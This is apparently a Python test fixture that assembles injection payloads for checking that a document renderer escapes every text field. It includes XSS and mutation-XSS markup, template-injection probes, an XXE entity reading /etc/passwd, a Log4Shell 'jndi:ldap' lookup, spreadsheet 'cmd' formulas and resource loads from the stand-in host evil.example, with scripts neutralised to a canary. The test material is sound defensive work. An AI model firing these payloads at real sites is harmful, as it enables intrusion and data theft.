"""Script payloads for every text field: the corpus of `tests/document/payloads.py` and what browsers, templates and
structured data add. Called by `test_payloads.py`.
"""

from collections.abc import Iterator

from tests.document.payloads import ADDRESSES, WORDS

_RUN = "window.canary=1"

_HANDLERS = (
    *(
        "onload",
        "onerror",
        "onfocus",
        "onmouseover",
        "onanimationstart",
        "ontransitionend",
        "onbegin",
        "onend",
    ),
    *(
        "onpointerenter",
        "onscroll",
        "onwheel",
        "oncopy",
        "onhashchange",
        "onpageshow",
        "onresize",
        "ontoggle",
    ),
    *(
        "onbeforetoggle",
        "onscrollsnapchange",
        "onsecuritypolicyviolation",
        "oncontentvisibilityautostatechange",
    ),
)
_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "marquee",
    "audio src=x",
    "video src=x",
)
_BREAKOUTS = (
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "]]>",
    "*/",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</svg>",
)

_FOREIGN = (
    "<svg><animate onbegin=CANARY attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:CANARY><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:CANARY /><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=CANARY xmlns=http://www.w3.org/2000/svg>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>CANARY</script>'></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=CANARY>",
    "<svg><style><img src=x onerror=CANARY></style></svg>",
    "<svg><title><img src=x onerror=CANARY></title></svg>",
    "<svg><desc><![CDATA[</desc><img src=x onerror=CANARY>]]></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:CANARY>x</maction></math>",
    "<math href=javascript:CANARY>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=CANARY></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=CANARY src>'>",
    "<math><mtext><table><mglyph><style><math><img src onerror=CANARY></style></mglyph></table></mtext></math>",
    "<svg></p><style><a id='</style><img src=1 onerror=CANARY>'>",
    "<noembed><img title='</noembed><img src onerror=CANARY>'></noembed>",
    "<noframes><p title='</noframes><svg onload=CANARY>'>",
    "<select><style></select><img src=x onerror=CANARY></style>",
    "<table><caption><svg><title><table><img src=x onerror=CANARY>",
    "<template shadowrootmode=open><script>CANARY</script></template>",
    "<iframe src=javascript:CANARY></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.canary=1&lt;/script&gt;'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2FuYXJ5PTE8L3NjcmlwdD4='></object>",
    "<embed src=//evil.example/x.swf allowscriptaccess=always>",
    "<img srcset='//evil.example/a.png 1x, //evil.example/b.png 2x'>",
    "<picture><source srcset=//evil.example/c.png><img src=x></picture>",
    "<video poster=//evil.example/p.png src=//evil.example/v.mp4 autoplay></video>",
    "<p style='background:url(//evil.example/css.png)'>",
    "<p style='behavior:url(#x);-moz-binding:url(//evil.example/x.xml#x)'>",
    "<style>*{background:url(//evil.example/all.png)}</style>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<link rel=preload as=image href=//evil.example/preload.png>",
    "<link rel=manifest href=//evil.example/m.json><link rel=prefetch href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:CANARY'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<base target=_blank href=https://evil.example/>",
    "<form action=https://evil.example/><input name=csrfmiddlewaretoken><button>x</button></form>",
    "<button form=x formaction=javascript:CANARY>x</button>",
    "<a href='&#106;&#97;&#118;&#97;script:CANARY'>x</a>",
    "<a href=//evil.example/ ping=//evil.example/ping>x</a>",
    "<body background=//evil.example/b.png>",
    "<script type=module src=//evil.example/m.js></script>",
    '<script type=importmap>{"imports":{"x":"//evil.example/"}}</script>',
    '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example/"]}]}</script>',
    "<script>CANARY</script\x0c>",
    "<script\n>CANARY</script\n>",
    "<script/x>CANARY</script>",
    "<<script>CANARY//<</script>",
    "<svg/onload=CANARY//",
    "<img/src=x/onerror=CANARY>",
    "<img src=x onerror\n=\nCANARY>",
    "<a\x00href=javascript:CANARY>x</a>",
    "<scr\x00ipt>CANARY</scr\x00ipt>",
)
_DATA = (
    "</script><script>CANARY</script>",
    '"}</script><script>CANARY</script>',
    "<!--<script>",
    "--><script>CANARY</script>",
    '"@type":"Person","url":"javascript:CANARY"',
    '\\"});CANARY//',
    "\\';CANARY//",
    "\u2028CANARY\u2029",
    "\u2029';CANARY//",
    "line\r\nid: 99999999\r\nevent: reload\r\ndata: {}\r\n\r\n",
    'line\n\ndata: {"kind":"reload"}\n\n',
    "x\r\nSet-Cookie: canary=1\r\n\r\n<script>CANARY</script>",
    "]]><script>CANARY</script><![CDATA[",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&e;&#0;&#x1;&#xFFFE;",
    "&amp;lt;script&amp;gt;CANARY&amp;lt;/script&amp;gt;",
    "&lt;img src=x onerror=CANARY&gt;",
    "&NewLine;&Tab;javascript&colon;CANARY",
    "\u202e>tpircs/<CANARY>tpircs<",
    "\ufeff<script>CANARY</script>",
    "\ufdd0\ufffe<script>CANARY</script>",
    "\uff1cscript\uff1eCANARY\uff1c/script\uff1e",
    "\u0000<script>CANARY</script>",
    "%3Cscript%3ECANARY%3C/script%3E",
    "+ADw-script+AD4-CANARY+ADw-/script+AD4-",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
)
_TEMPLATES = (
    "{{ 7|add:7 }}",
    "{% load log %}{% debug %}",
    "{{ request.META }}",
    "{{ settings.SECRET_KEY }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{0.__class__.__init__.__globals__}",
    "%(levelname)s %n %s%s%s%s",
    "${{7*7}}",
    "#set($x=7*7)$x",
    "*{7*7}",
    "@(7*7)",
    "[[${7*7}]]",
    "{{=<% %>=}}<%={7*7}%>",
    "${jndi:ldap://evil.example/a}",
    "<%- include('/etc/passwd') %>",
    '<!--#exec cmd="id"-->',
    "<esi:include src=//evil.example/ />",
)
_MARKDOWN = (
    "[x](javascript&#58;CANARY)",
    "[x](<javascript:CANARY>)",
    "[x](java\nscript:CANARY)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:CANARY 'title')",
    "![x](https://evil.example/a.png)",
    '![x" onerror="CANARY](https://evil.example/a.png)',
    "![x](https://evil.example/a.png 'x\" onload=\"CANARY')",
    "[x]: <javascript:CANARY>\n\n[x]",
    "<javascript:CANARY>",
    '<https://example.org/" onclick=CANARY x=">',
    "[a](https://example.org/'onclick='CANARY)",
    "```\n</code></pre><script>CANARY</script>\n```",
    "`</code><script>CANARY</script>`",
    "> <script>CANARY</script>",
    "| <img src=x onerror=CANARY> | b |\n|---|---|\n| <script>CANARY</script> | `<svg onload=CANARY>` |",
    "<!-- --!><img src=x onerror=CANARY> -->",
    "\\<script>CANARY\\</script>",
    '[x](https://example.org "</a><script>CANARY</script>")',
)


def texts() -> list[str]:
    """Everything that is put where words go. Each once."""
    return list(dict.fromkeys(text.replace("CANARY", _RUN).replace("alert(1)", _RUN) for text in _all()))


def _all() -> Iterator[str]:
    yield from (*WORDS, *_FOREIGN, *_DATA, *_TEMPLATES, *_MARKDOWN)
    for number, handler in enumerate(_HANDLERS):
        yield f"<{_ELEMENTS[number % len(_ELEMENTS)]} {handler}=CANARY>"
        yield f'x" {handler}="CANARY'
    for breakout in _BREAKOUTS:
        yield f"{breakout}<script>CANARY</script>"
        yield f"{breakout} autofocus tabindex=1 onfocus=CANARY x={breakout}"
    yield from ADDRESSES[::2]  # as words; as addresses all of them


def addresses() -> tuple[str, ...]:
    """Everything that is put where an address goes; each must be refused."""
    return ADDRESSES
